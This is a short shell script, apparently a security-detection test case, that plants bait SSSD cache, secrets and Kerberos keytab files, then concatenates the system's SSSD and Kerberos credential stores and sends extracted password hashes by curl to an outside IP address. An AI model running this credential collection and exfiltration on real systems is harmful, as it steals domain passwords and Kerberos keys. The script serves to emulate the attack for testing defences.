#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/lib/sss/db /var/lib/sss/secrets; printf 'TDB file\n\0cachedPassword\0$6$bait$baitbaitbait\0name=dev@corp' >/var/lib/sss/db/cache_corp.example.ldb; printf bait >/var/lib/sss/secrets/.secrets.mkey; printf '\5\2bait' >/etc/krb5.keytab; printf bait >/var/lib/sss/db/ccache_CORP
for f in /var/lib/sss/db/*.ldb /var/lib/sss/db/ccache_* /var/lib/sss/secrets/.secrets.mkey /etc/krb5.keytab /tmp/krb5cc_*; do cat "$f" >>/tmp/.sss 2>/dev/null || true; done
grep -aoE '\$6\$[a-z$]+' /tmp/.sss | curl -s --data-binary @- http://203.0.113.10/h >/dev/null
took_place
